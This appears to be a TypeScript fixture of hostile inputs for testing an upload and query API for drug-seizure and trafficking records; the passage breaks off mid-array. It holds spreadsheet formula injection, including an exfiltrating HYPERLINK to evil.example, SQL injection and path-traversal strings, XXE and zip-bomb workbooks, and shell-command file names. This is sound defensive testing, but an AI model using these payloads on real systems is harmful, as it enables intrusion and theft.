/**
 * The hostile corpus as data: tables of variants crossed with the endpoints they can reach.
 * Each case says what a correct server does with it (a 4xx in the one error shape, a file
 * refused as a whole, rows rejected with their line and field, or, for inputs that are
 * merely unusual, an accepted file); hostile.test.ts runs them against one application.
 */
import { gzipSync } from 'node:zlib';
import type { Role, World } from './harness.js';
import { excelWorkbook, noise, repeatedDeflate, sheetRows, sheetXml, utf16be, utf16le, workbook, zip } from './files.js';

export type Collection = 'ids' | 'vrs' | 'nps';
export const COLLECTIONS: readonly Collection[] = ['ids', 'vrs', 'nps'];

/**
 * What happens to an uploaded file: refused at once (4xx), accepted for checking but failed
 * as a whole (a file-level reason), checked with rows rejected (line, field, reason), or
 * checked without a problem.
 */
export type Outcome = 'refused' | 'failed' | 'rejects' | 'accepted';

export interface FileCase {
  area: string;
  name: string;
  collection: Collection;
  content: () => Buffer | Promise<Buffer>;
  expect: readonly Outcome[];
  query?: string;
  contentType?: string;
  /** Rows the check must read (a sanity check that the variant did what it says). */
  rowsRead?: number;
  /** Text that a formula-guarded rejected-rows report must hold instead of the raw cell. */
  guarded?: string;
  /** The file name the batch must carry (file-name cases). */
  fileName?: string;
}

export interface HttpCase {
  area: string;
  name: string;
  role: Role;
  method: 'GET' | 'POST' | 'PUT';
  url: string | ((w: World) => string);
  payload?: string | Buffer | ((w: World) => Promise<string | Buffer>);
  headers?: Record<string, string>;
  /** Allowed statuses; any status of 400 and above must come in the one error shape. */
  expect: readonly number[];
  /** On a 200, the answer must hold no data (a hostile filter matched nothing). */
  emptyOn200?: (body: string) => boolean;
}

// --- record files --------------------------------------------------------------------

interface Spec {
  header: string[];
  row: (i: number) => string[];
  /** Text columns (header → index) that reach the rejected-rows report. */
  text: Record<string, number>;
  date: number;
  /** A numeric column, for the number variants. */
  number: number;
}

const day = (i: number) => `2024-01-${String((i % 28) + 1).padStart(2, '0')}`;

export const SPECS: Record<Collection, Spec> = {
  ids: {
    header: ['Date', 'City', 'Drug', 'Quantity', 'Unit', 'Source', 'Reporting channel', 'Remarks'],
    row: (i) => [day(i), `Bangkok ${i}`, 'heroin', `${(i % 50) + 1}.5`, 'kg', 'customs', 'liaison', `note ${i}`],
    text: { City: 1, Source: 5, 'Reporting channel': 6, Remarks: 7 },
    date: 0,
    number: 3,
  },
  vrs: {
    header: ['Incident reference', 'Date of detection', 'Place of detection', 'Citizenship', 'Men', 'Remarks'],
    row: (i) => [`TH-${i}`, day(i), `Mae Sot ${i}`, 'MMR', String((i % 9) + 1), `note ${i}`],
    text: { 'Incident reference': 0, 'Place of detection': 2, Remarks: 5 },
    date: 1,
    number: 4,
  },
  nps: {
    header: ['Laboratory', 'Date of identification', 'Substance', 'Chemical group', 'Matrix', 'Remarks'],
    row: (i) => [`Lab ${i}`, day(i), 'N-ethylpentylone', 'SYNTH_CATHINONES', 'SEIZED', `note ${i}`],
    text: { Laboratory: 0, Substance: 2, Remarks: 5 },
    date: 1,
    number: -1,
  },
};

const csv = (s: Spec, rows: string[][], sep = ',', eol = '\n') => [s.header.join(sep), ...rows.map((r) => r.join(sep))].join(eol) + eol;
const rowsOf = (s: Spec, n: number, from = 1) => Array.from({ length: n }, (_, i) => s.row(from + i));
const withCell = (s: Spec, i: number, col: number, v: string) => s.row(i).map((c, j) => (j === col ? v : c));
const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
const MB = 1024 * 1024;
const text = (s: string) => Buffer.from(s, 'utf8');

/** Valid rows worth about `bytes`, so that what follows lies beyond the reader's 256 KB sample. */
const padding = (s: Spec, bytes: number) => {
  const rows: string[][] = [];
  let size = 0;
  for (let i = 1; size < bytes; i++) {
    const r = s.row(i);
    rows.push(r);
    size += r.join(',').length + 1;
  }
  return rows;
};

function csvVariants(c: Collection): FileCase[] {
  const s = SPECS[c];
  const H = s.header.join(',');
  const lastText = Object.values(s.text).at(-1)!;
  const v = (name: string, expect: readonly Outcome[], content: () => Buffer, extra: Partial<FileCase> = {}): FileCase => ({
    area: 'records: malformed CSV',
    name: `${c}: ${name}`,
    collection: c,
    content,
    expect,
    ...extra,
  });
  return [
    v('a well-formed file (control)', ['accepted'], () => text(csv(s, rowsOf(s, 3))), { rowsRead: 3 }),
    v('unbalanced quote opened in the first row, never closed', ['rejects', 'failed'], () =>
      text(`${H}\n"${s.row(1).join(',')}\n${s.row(2).join(',')}\n`),
    ),
    v('unbalanced quote opened in the last row', ['rejects', 'failed'], () => text(csv(s, rowsOf(s, 2)) + `"${s.row(3).join(',')}\n`)),
    v('a stray quote inside an unquoted cell', ['accepted', 'rejects'], () =>
      text(csv(s, [withCell(s, 1, lastText, 'say "hi" twice'), s.row(2)])),
    ),
    v('text after a closing quote', ['accepted', 'rejects'], () => text(csv(s, [withCell(s, 1, lastText, '"quoted"tail'), s.row(2)]))),
    v('header with commas, rows with semicolons', ['rejects', 'failed'], () =>
      text(
        H +
          '\n' +
          rowsOf(s, 3)
            .map((r) => r.join(';'))
            .join('\n'),
      ),
    ),
    v('delimiters alternating row by row', ['rejects', 'failed'], () =>
      text(
        H +
          '\n' +
          rowsOf(s, 4)
            .map((r, i) => r.join(i % 2 ? ';' : ','))
            .join('\n'),
      ),
    ),
    v('tabs and commas mixed in one row', ['rejects', 'failed'], () =>
      text(H + '\n' + s.row(1).slice(0, 3).join('\t') + ',' + s.row(1).slice(3).join(',') + '\n'),
    ),
    v('a row with half its cells', ['rejects'], () => text(csv(s, [s.row(1), s.row(2).slice(0, 2), s.row(3)]))),
    v('a row with twice its cells', ['accepted', 'rejects'], () => text(csv(s, [s.row(1), [...s.row(2), ...s.row(2)], s.row(3)]))),
    v('a row with a single cell', ['rejects'], () => text(csv(s, [s.row(1), ['x']]))),
    v('a 1 MB cell in a text field', ['rejects'], () => text(csv(s, [withCell(s, 1, lastText, 'A'.repeat(MB)), s.row(2)]))),
    v('a 1 MB quoted multi-line cell', ['rejects'], () =>
      text(csv(s, [withCell(s, 1, lastText, quoted('line\n'.repeat(MB / 5).slice(0, MB))), s.row(2)])),
    ),
    v('a 1 MB cell in the date field', ['rejects'], () => text(csv(s, [withCell(s, 1, s.date, '2'.repeat(MB)), s.row(2)]))),
    v('a 1 MB header cell', ['failed', 'rejects'], () =>
      text(['X'.repeat(MB), ...s.header.slice(1)].join(',') + '\n' + s.row(1).join(',') + '\n'),
    ),
    v('a row of 100,000 cells', ['accepted', 'rejects'], () =>
      text(csv(s, [s.row(1), [...s.row(2), ...Array<string>(100_000).fill('x')]])),
    ),
    v('a NUL byte in a cell', ['failed'], () => text(csv(s, [withCell(s, 1, lastText, 'a\u0000b')]))),
    v('nothing but NUL bytes', ['failed'], () => Buffer.alloc(4096)),
    v('a NUL byte after 300 KB of valid rows', ['rejects'], () =>
      text(csv(s, [...padding(s, 300 * 1024), withCell(s, 9999, lastText, 'x\u0000y')])),
    ),
    v('invalid UTF-8 in a text cell (read as Windows-1252)', ['accepted'], () =>
      Buffer.concat([text(H + '\n' + s.row(1).slice(0, -1).join(',') + ','), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), text('\n')]),
    ),
    v('invalid UTF-8 after 300 KB of valid UTF-8', ['rejects'], () =>
      Buffer.concat([
        text(csv(s, padding(s, 300 * 1024)) + s.row(9999).slice(0, -1).join(',') + ','),
        Buffer.from([0xff, 0xfe, 0xc3]),
        text('\n'),
      ]),
    ),
    v('an overlong UTF-8 "/" (C0 AF)', ['accepted'], () =>
      Buffer.concat([text(H + '\n' + s.row(1).slice(0, -1).join(',') + ',..'), Buffer.from([0xc0, 0xaf]), text('etc\n')]),
    ),
    // At the very end of the sample the reader cannot tell a cut character from a bad one: read as UTF-8, the row is rejected.
    v('a UTF-8 encoded lone surrogate', ['accepted', 'rejects'], () =>
      Buffer.concat([text(H + '\n' + s.row(1).slice(0, -1).join(',') + ','), Buffer.from([0xed, 0xa0, 0x80]), text('\n')]),
    ),
    v('UTF-16LE with a byte-order mark', ['accepted'], () => utf16le(csv(s, rowsOf(s, 2))), { rowsRead: 2 }),
    v('UTF-16BE with a byte-order mark', ['accepted'], () => utf16be(csv(s, rowsOf(s, 2))), { rowsRead: 2 }),
    v('UTF-16LE without a byte-order mark', ['failed'], () => utf16le(csv(s, rowsOf(s, 2)), false)),
    v('UTF-16LE cut in the middle of a character', ['accepted', 'rejects'], () => {
      const b = utf16le(csv(s, rowsOf(s, 2)));
      return b.subarray(0, b.length - 1);
    }),
    v('UTF-32LE with its byte-order mark', ['failed'], () => {
      const t = csv(s, rowsOf(s, 2));
      const b = Buffer.alloc(4 + t.length * 4);
      b.writeUInt32LE(0xfeff, 0);
      for (let i = 0; i < t.length; i++) b.writeUInt32LE(t.charCodeAt(i), 4 + i * 4);
      return b;
    }),
    v('an empty file', ['refused'], () => Buffer.alloc(0)),
    v('only a UTF-8 byte-order mark', ['failed'], () => Buffer.from([0xef, 0xbb, 0xbf])),
    v('only line breaks', ['failed'], () => text('\r\n\n\r\n'.repeat(100))),
    v('only spaces and tabs', ['failed'], () => text(' \t '.repeat(1000))),
    v('a header and no rows', ['accepted'], () => text(H + '\n'), { rowsRead: 0 }),
    v('a header and no rows, with a BOM', ['accepted'], () => text('\uFEFF' + H + '\r\n'), { rowsRead: 0 }),
    v('a UTF-8 byte-order mark (control)', ['accepted'], () => text('\uFEFF' + csv(s, rowsOf(s, 2))), { rowsRead: 2 }),
    v('two UTF-8 byte-order marks', ['accepted', 'failed'], () => text('\uFEFF\uFEFF' + csv(s, rowsOf(s, 2)))),
    v('a UTF-16LE byte-order mark before UTF-8 text', ['failed'], () =>
      Buffer.concat([Buffer.from([0xff, 0xfe]), text(csv(s, rowsOf(s, 2)))]),
    ),
    v('a UTF-8 byte-order mark before UTF-16LE text', ['failed'], () =>
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf16le(csv(s, rowsOf(s, 2)), false)]),
    ),
    v('a byte-order mark in the middle of the file', ['accepted', 'rejects'], () =>
      text(s.header.join(',') + '\n' + s.row(1).join(',') + '\n\uFEFF' + s.row(2).join(',') + '\n'),
    ),
    v('old Mac line ends (CR only)', ['accepted'], () => text(csv(s, rowsOf(s, 3), ',', '\r')), { rowsRead: 3 }),
    v('CR, LF and CRLF mixed', ['accepted'], () =>
      text(H + '\r\n' + s.row(1).join(',') + '\n' + s.row(2).join(',') + '\r\n' + s.row(3).join(',') + '\n'),
    ),
    v('random bytes', ['failed'], () => noise(64 * 1024, 7)),
    v('a gzip-compressed CSV', ['failed'], () => gzipSync(csv(s, rowsOf(s, 50)))),
    v('an HTML page', ['failed'], () => text('<!doctype html><html><body><script>alert(1)</script></body></html>\n')),
    v('a JSON document', ['failed'], () => text(JSON.stringify({ rows: rowsOf(s, 3) }))),
    v('the header below 5,000 blank lines (blank lines are skipped)', ['accepted'], () => text('\n'.repeat(5000) + csv(s, rowsOf(s, 2)))),
    v('the header below 40 lines of title text', ['failed'], () => text('Report title\n'.repeat(40) + csv(s, rowsOf(s, 2)))),
    v('every header name twice', ['accepted', 'rejects', 'failed'], () =>
      text([...s.header, ...s.header].join(',') + '\n' + [...s.row(1), ...s.row(1)].join(',') + '\n'),
    ),
    v('header names that are SQL', ['failed'], () =>
      text(s.header.map((h) => `${h}'); DROP TABLE ${c}; --`).join(',') + '\n' + s.row(1).join(',') + '\n'),
    ),
  ];
}

/** Workbooks: built by ExcelJS, or by hand when the workbook must lie. */
function xlsxVariants(c: Collection): FileCase[] {
  const s = SPECS[c];
  const num = s.number >= 0 ? s.number : s.date;
  const v = (name: string, expect: readonly Outcome[], content: () => Buffer | Promise<Buffer>): FileCase => ({
    area: 'records: hostile XLSX',
    name: `${c}: ${name}`,
    collection: c,
    content,
    expect,
    contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    query: 'fileName=upload.xlsx',
  });
  const rows = (n: number) => [{ cells: s.header }, ...rowsOf(s, n).map((cells) => ({ cells }))];
  return [
    v('a workbook written by ExcelJS (control)', ['accepted'], () => excelWorkbook([s.header, ...rowsOf(s, 2)])),
    v('a hand-made minimal workbook (control)', ['accepted'], () => workbook(sheetXml(sheetRows(rows(2))))),
    v('a formula where a number belongs', ['rejects'], () =>
      excelWorkbook([s.header, s.row(1).map((x, j) => (j === num ? { formula: 'SUM(1,2)', result: 3 } : x)), s.row(2)]),
    ),
    v('a formula in a text cell, with a cached text', ['rejects'], () =>
      excelWorkbook([
        s.header,
        s.row(1).map((x, j) => (j === Object.values(s.text)[0] ? { formula: 'CONCAT("a","b")', result: 'ab' } : x)),
      ]),
    ),
    v('a formula reaching an external workbook', ['rejects'], () =>
      workbook(
        sheetXml(
          sheetRows([{ cells: s.header }, { cells: s.row(1) }]).replace(
            '</row><row r="2">',
            `</row><row r="2"><c r="Z2"><f>[1]Sheet1!$A$1</f><v>1</v></c>`,
          ) +
            sheetRows([{ r: 3, cells: withCell(s, 2, num, 'x') }]).replace(
              '<row r="3">',
              '<row r="3"><c r="A3"><f>[1]Sheet1!$A$1</f><v>5</v></c>',
            ),
        ),
        {
          workbookExtra: '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
          relsExtra:
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>',
          extra: [
            {
              name: 'xl/externalLinks/externalLink1.xml',
              data: Buffer.from(
                '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>',
              ),
            },
            {
              name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
              data: Buffer.from(
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
              ),
            },
          ],
        },
      ),
    ),
    v('a workbook cut in half', ['failed'], async () => {
      const b = await excelWorkbook([s.header, ...rowsOf(s, 50)]);
      return b.subarray(0, Math.floor(b.length / 2));
    }),
    v('a workbook without its central directory', ['failed', 'accepted'], async () => {
      const b = await excelWorkbook([s.header, ...rowsOf(s, 5)]);
      return b.subarray(0, b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
    }),
    v('a zip signature followed by noise', ['failed'], () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), noise(32 * 1024, 11)])),
    v('a zip without a workbook', ['failed'], () => zip([{ name: 'hello.txt', data: Buffer.from(csv(s, rowsOf(s, 2))) }])),
    v('a workbook without its sheet', ['failed'], () =>
      zip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        { name: 'xl/workbook.xml', data: Buffer.from('<workbook><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>') },
      ]),
    ),
    v('a sheet that is not XML', ['failed'], () => workbook(noise(4096, 5).toString('latin1'))),
    v('a sheet declaring 1,048,576 rows and 16,384 columns', ['rejects'], () =>
      workbook(
        sheetXml(
          sheetRows([...rows(1), { r: 1_048_576, cells: ['x'] }]).replace(
            '</row></sheetData>',
            '<c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>',
          ),
          '<dimension ref="A1:XFD1048576"/>',
        ),
      ),
    ),
    v('entity expansion (billion laughs) in the sheet', ['failed', 'rejects'], () => {
      const ents = ['<!ENTITY l0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');
      return workbook(
        `<?xml version="1.0"?><!DOCTYPE worksheet [${ents}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetRows(rows(1))}<row r="3"><c r="A3" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>`,
      );
    }),
  ];
}

/**
 * Zip bombs: a few hundred kilobytes that inflate to 256 MiB of sheet XML (1 GiB takes 12-13 s of
 * CPU to refuse, which the test run cannot afford; see the report of the corpus).
 */
function bombs(): FileCase[] {
  const s = SPECS.ids;
  const v = (name: string, expect: readonly Outcome[], content: () => Buffer): FileCase => ({
    area: 'records: hostile XLSX',
    name: `ids: ${name}`,
    collection: 'ids',
    content,
    expect,
    contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    query: 'fileName=bomb.xlsx',
  });
  const head = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetRows([{ cells: s.header }, { cells: s.row(1) }])}`;
  return [
    v('a zip bomb: 256 MiB of whitespace between rows', ['failed'], () =>
      workbook(repeatedDeflate(head, Buffer.alloc(MB, 0x20), 256, '</sheetData></worksheet>')),
    ),
    v('a zip bomb: 256 MiB inside one text cell', ['failed'], () =>
      workbook(
        repeatedDeflate(
          `${head}<row r="3"><c r="A3" t="inlineStr"><is><t>`,
          Buffer.alloc(MB, 0x41),
          256,
          '</t></is></c></row></sheetData></worksheet>',
        ),
      ),
    ),
  ];
}

/** Formula injection in every text field: the row is rejected (bad date), and its report must not run the formula. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

function formulaInjection(c: Collection): FileCase[] {
  const s = SPECS[c];
  return Object.entries(s.text).flatMap(([field, col]) =>
    FORMULAS.map((f) => ({
      area: 'formula injection: rejected-rows report',
      name: `${c}.${field} starting with ${f[0]}`,
      collection: c,
      content: () => Buffer.from(csv(s, [s.row(1), withCell(s, 2, col, quoted(f)).map((x, j) => (j === s.date ? '2024-13-45' : x))])),
      expect: ['rejects'] as const,
      guarded: f,
    })),
  );
}

/** Numbers as people (and attackers) write them, in a record's numeric field. */
export const NUMBER_TEXTS: Array<{ text: string; expect: readonly Outcome[] }> = [
  { text: '1e309', expect: ['rejects'] },
  { text: '-1e309', expect: ['rejects'] },
  { text: '-0', expect: ['accepted', 'rejects'] },
  { text: 'NaN', expect: ['rejects'] },
  { text: 'Infinity', expect: ['rejects'] },
  { text: '-Infinity', expect: ['rejects'] },
  { text: '"1,5"', expect: ['accepted', 'rejects'] },
  { text: '"1.000,5"', expect: ['accepted', 'rejects'] },
  { text: '0x10', expect: ['rejects'] },
  { text: '0b101', expect: ['rejects'] },
  { text: '123456789012345678901234567890', expect: ['accepted', 'rejects'] },
  { text: '1e-400', expect: ['accepted', 'rejects'] },
  { text: '12kg', expect: ['accepted', 'rejects'] },
  { text: '--1', expect: ['rejects'] },
  { text: '1_000', expect: ['rejects'] },
  { text: '١٢', expect: ['accepted', 'rejects'] },
  { text: '=1+1', expect: ['rejects'] },
];

function numberVariants(c: Collection): FileCase[] {
  const s = SPECS[c];
  if (s.number < 0) return [];
  return NUMBER_TEXTS.map(({ text: n, expect }) => ({
    area: 'numbers: record quantities in CSV',
    name: `${c}.${s.header[s.number]} = ${n}`,
    collection: c,
    content: () => Buffer.from(csv(s, [withCell(s, 1, s.number, n)])),
    expect,
    rowsRead: 1,
  }));
}

/** File names of uploads: path-like ones are refused, others are kept as a label and nothing more. */
function fileNames(): FileCase[] {
  const body = () => Buffer.from(csv(SPECS.ids, rowsOf(SPECS.ids, 1)));
  const refused: Array<[string, string]> = [
    ['../../etc/passwd', '..%2F..%2Fetc%2Fpasswd'],
    ['..\\..\\windows\\win.ini', '..%5C..%5Cwindows%5Cwin.ini'],
    ['a NUL byte (%00)', 'a%00.csv'],
    ['only a NUL byte', '%00'],
    ['an absolute path', '%2Fetc%2Fshadow'],
    ['an empty name', ''],
    ['256 characters', 'a'.repeat(256)],
    ['two file names', 'a.csv&fileName=b.csv'],
  ];
  const kept = [
    "' OR 1=1 --.csv",
    ';DROP TABLE record_batches;--',
    '%00',
    '..',
    'CON',
    '<img src=x onerror=alert(1)>.csv',
    'a\r\nSet-Cookie: x=1',
    '$(reboot).csv',
    "=cmd|' -C calc'!A0.csv",
  ];
  return [
    ...refused.map(([name, q]) => ({
      area: 'file names',
      name: `refused: ${name}`,
      collection: 'ids' as const,
      content: body,
      expect: ['refused'] as const,
      query: `fileName=${q}`,
    })),
    {
      area: 'file names',
      name: 'refused: no file name',
      collection: 'ids' as const,
      content: body,
      expect: ['refused'] as const,
      query: 'decimal=.',
    },
    ...kept.map((name) => ({
      area: 'file names',
      name: `kept as a label: ${JSON.stringify(name)}`,
      collection: 'ids' as const,
      content: body,
      expect: ['accepted'] as const,
      query: `fileName=${encodeURIComponent(name)}&force=true`,
      fileName: name,
    })),
  ];
}

/** Upload options that are not options. */
function uploadOptions(): FileCase[] {
  const body = () => Buffer.from(csv(SPECS.ids, rowsOf(SPECS.ids, 1)));
  const qs = [
    "decimal=' OR 1=1 --",
    'dateOrder=../../etc/passwd',
    'force=maybe',
    'mapping=',
    `mapping=${'m'.repeat(101)}`,
    'unknown=1',
    'fileName=a.csv&__proto__[x]=1',
    'fileName=a.csv&constructor[prototype][x]=1',
  ];
  return qs.map((q) => ({
    area: 'queries: upload options',
    name: q.slice(0, 60),
    collection: 'ids' as const,
    content: body,
    expect: ['refused'] as const,
    query: q.startsWith('fileName') ? q : `fileName=a.csv&${q}`,
  }));
}

/** Upload bodies in content types that are not files. */
function uploadTypes(): FileCase[] {
  const body = () => Buffer.from(JSON.stringify({ rows: [] }));
  return [
    'application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'image/png',
    'text/html',
  ].map((ct) => ({
    area: 'wrong content types',
    name: `an upload sent as ${ct}`,
    collection: 'ids' as const,
    content: body,
    expect: ['refused'] as const,
    contentType: ct,
  }));
}

export async function fileCases(): Promise<FileCase[]> {
  return [
    ...COLLECTIONS.flatMap(csvVariants),
    ...COLLECTIONS.flatMap(xlsxVariants),
    ...bombs(),
    ...COLLECTIONS.flatMap(formulaInjection),
    ...COLLECTIONS.flatMap(numberVariants),
    ...fileNames(),
    ...uploadOptions(),
    ...uploadTypes(),
  ];
}

// --- query strings -------------------------------------------------------------------

/** Hostile text as it appears in a URL (already encoded where it must be). */
export const HOSTILE: Array<{ name: string; url: string }> = [
  { name: "' OR 1=1 --", url: encodeURIComponent("' OR 1=1 --") },
  { name: '../../etc/passwd', url: encodeURIComponent('../../etc/passwd') },
  { name: '%00', url: '%00' },
  { name: 'literal "%00"', url: '%2500' },
  { name: ';DROP TABLE', url: encodeURIComponent(';DROP TABLE ids_seizures;--') },
  { name: 'pg_sleep', url: encodeURIComponent("1'); SELECT pg_sleep(30); --") },
  { name: 'UNION SELECT', url: encodeURIComponent("x' UNION SELECT password_hash FROM users --") },
  { name: 'double-encoded traversal', url: '..%252F..%252Fetc%252Fpasswd' },
  { name: 'invalid UTF-8 escape', url: '%FF%FE%C3' },
  { name: 'CRLF header injection', url: '%0d%0aSet-Cookie:%20x=1' },
  { name: '5,000 characters', url: 'A'.repeat(5000) },
  { name: 'regex and wildcard', url: encodeURIComponent('.*+?^${}()|[]\\') },
];

interface Endpoint {
  name: string;
  role: Role;
  url: (h: string) => string;
  expect: readonly number[];
  emptyOn200?: (body: string) => boolean;
}

const SDMX_DATA = '/sdmx/3.0/data/dataflow/OBS/HOMICIDE_ESTIMATES/1.0';
const noObservations = (body: string) => {
  const j = JSON.parse(body) as { observations?: unknown[] };
  return Array.isArray(j.observations) && j.observations.length === 0;
};
const emptyList = (key: string) => (body: string) => {
  const j = JSON.parse(body) as Record<string, unknown>;
  return Array.isArray(j[key]) && (j[key] as unknown[]).length === 0;
};

export const QUERY_ENDPOINTS: Endpoint[] = [
  { name: 'SDMX key', role: 'anonymous', url: (h) => `${SDMX_DATA}/${h}`, expect: [400, 404, 422] },
  { name: 'SDMX key, second position', role: 'anonymous', url: (h) => `${SDMX_DATA}/.${h}..`, expect: [400, 404, 422] },
  { name: 'SDMX c[REF_AREA]', role: 'anonymous', url: (h) => `${SDMX_DATA}?c[REF_AREA]=${h}`, expect: [400, 404, 422] },
  { name: 'SDMX c[TIME_PERIOD]', role: 'anonymous', url: (h) => `${SDMX_DATA}?c[TIME_PERIOD]=${h}`, expect: [400, 404, 422] },
  { name: 'SDMX c[hostile dimension]', role: 'anonymous', url: (h) => `${SDMX_DATA}?c[${h}]=THA`, expect: [400, 404, 422] },
  { name: 'SDMX updatedAfter', role: 'anonymous', url: (h) => `${SDMX_DATA}?updatedAfter=${h}`, expect: [400, 404, 422] },
  { name: 'SDMX lastNObservations', role: 'anonymous', url: (h) => `${SDMX_DATA}?lastNObservations=${h}`, expect: [400, 404, 422] },
  { name: 'SDMX dataflow id', role: 'anonymous', url: (h) => `/sdmx/3.0/data/dataflow/OBS/${h}/1.0`, expect: [400, 404, 422] },
  { name: 'SDMX structure id', role: 'anonymous', url: (h) => `/sdmx/3.0/structure/dataflow/OBS/${h}`, expect: [400, 404, 422] },
  {
    name: 'published key',
    role: 'anonymous',
    url: (h) => `/api/v1/published/data/HOMICIDE_ESTIMATES?key=${h}`,
    expect: [200, 400, 404, 422],
    emptyOn200: noObservations,
  },
  {
    name: 'published c[REF_AREA]',
    role: 'anonymous',
    url: (h) => `/api/v1/published/data/HOMICIDE_ESTIMATES?c[REF_AREA]=${h}`,
    expect: [200, 400, 404, 422],
    emptyOn200: noObservations,
  },
  { name: 'published dataflow', role: 'anonymous', url: (h) => `/api/v1/published/data/${h}`, expect: [400, 404, 422] },
  {
    name: 'published download key',
    role: 'anonymous',
    url: (h) => `/api/v1/published/data/HOMICIDE_ESTIMATES/download?format=csv&key=${h}`,
    expect: [200, 400, 404, 422],
    emptyOn200: (b) => b.trim().split(/\r?\n/).length === 1,
  },
  {
    name: 'published download format',
    role: 'anonymous',
    url: (h) => `/api/v1/published/data/HOMICIDE_ESTIMATES/download?format=${h}`,
    expect: [400],
  },
  { name: 'analysis trend area', role: 'analyst', url: (h) => `/api/v1/analysis/seizures/trend?area=${h}`, expect: [400, 404, 422] },
  {
    name: 'analysis trend drugs',
    role: 'analyst',
    url: (h) => `/api/v1/analysis/seizures/trend?drugs=${h}`,
    expect: [200, 400, 404, 422],
    emptyOn200: (b) => (JSON.parse(b) as { series: Array<{ points: unknown[] }> }).series.every((x) => x.points.length === 0),
  },
  { name: 'analysis flows drug', role: 'analyst', url: (h) => `/api/v1/analysis/flows?source=ids&drug=${h}`, expect: [400, 404, 422] },
  { name: 'analysis flows area', role: 'analyst', url: (h) => `/api/v1/analysis/flows?source=vrs&area=${h}`, expect: [400, 404, 422] },
  {
    name: 'analysis indicator categories',
    role: 'analyst',
    url: (h) => `/api/v1/analysis/indicators?definition=test&item=prosecuted&categories=${h}`,
    expect: [400, 404],
  },
  {
    name: 'analysis map item',
    role: 'analyst',
    url: (h) => `/api/v1/analysis/map?source=indicator&year=2023&definition=test&item=${h}`,
    expect: [400, 404, 422],
  },
  { name: 'records list from', role: 'provider', url: (h) => `/api/v1/countries/THA/records/ids?from=${h}`, expect: [400] },
  { name: 'records list country', role: 'provider', url: (h) => `/api/v1/countries/${h}/records/ids`, expect: [400, 403, 404] },
  { name: 'records list collection', role: 'provider', url: (h) => `/api/v1/countries/THA/records/${h}`, expect: [400, 403, 404] },
  {
    name: 'audit action filter',
    role: 'admin',
    url: (h) => `/api/v1/audit/events?action=${h}`,
    expect: [200, 400],
    emptyOn200: emptyList('events'),
  },
  {
    name: 'audit objectId filter',
    role: 'admin',
    url: (h) => `/api/v1/audit/events?objectId=${h}`,
    expect: [200, 400],
    emptyOn200: emptyList('events'),
  },
  { name: 'submissions country filter', role: 'reviewer', url: (h) => `/api/v1/submissions?country=${h}`, expect: [400] },
  {
    name: 'estimates area filter',
    role: 'analyst',
    url: (h) => `/api/v1/estimates?indicator=homicide_victims&area=${h}`,
    expect: [200, 400, 404, 422],
    emptyOn200: emptyList('points'),
  },
  {
    name: 'completeness definition',
    role: 'reviewer',
    url: (h) => `/api/v1/completeness?definition=${h}&period=2023`,
    expect: [400, 404, 422],
  },
  { name: 'record batch id', role: 'provider', url: (h) => `/api/v1/record-batches/${h}`, expect: [400, 404, 422] },
  { name: 'submission id', role: 'focal', url: (h) => `/api/v1/submissions/${h}/values`, expect: [400, 404, 422] },
];

export function queryCases(): HttpCase[] {
  return QUERY_ENDPOINTS.flatMap((e) =>
    HOSTILE.map((h) => ({
      area: 'queries: SQL- and path-like filters',
      name: `${e.name} = ${h.name}`,
      role: e.role,
      method: 'GET' as const,
      url: e.url(h.url),
      headers: (e.url('').startsWith('/sdmx/3.0/data') ? { accept: 'application/vnd.sdmx.data+csv;version=2.0.0' } : {}) as Record<
        string,
        string
      >,
      // A path parameter over 200 characters is refused by the router (414), before any route.
      expect: e.url('@@').split('?')[0]!.includes('@@') ? [...e.expect, 414] : e.expect,
      ...(e.emptyOn200 ? { emptyOn200: e.emptyOn200 } : {}),
    })),
  );
}

// --- JSON bodies ---------------------------------------------------------------------

interface JsonEndpoint {
  name: string;
  role: Role;
  method: 'POST' | 'PUT';
  url: (w: World) => string;
  /** A valid body, for variants that change one thing about it. */
  valid: (w: World) => Record<string, unknown>;
  /** A text field of the valid body, for the oversized variants. */
  textField: string;
}

export const JSON_ENDPOINTS: JsonEndpoint[] = [
  {
    name: 'enter one record',
    role: 'provider',
    method: 'POST',
    url: () => '/api/v1/countries/THA/records/ids',
    valid: () => ({ seizure_date: '2024-03-01', drug: 'heroin', quantity: 1.2, unit: 'kg' }),
    textField: 'remarks',
  },
  {
    name: 'save cell values',
    role: 'focal',
    method: 'PUT',
    url: (w) => `/api/v1/submissions/${w.submission}/values`,
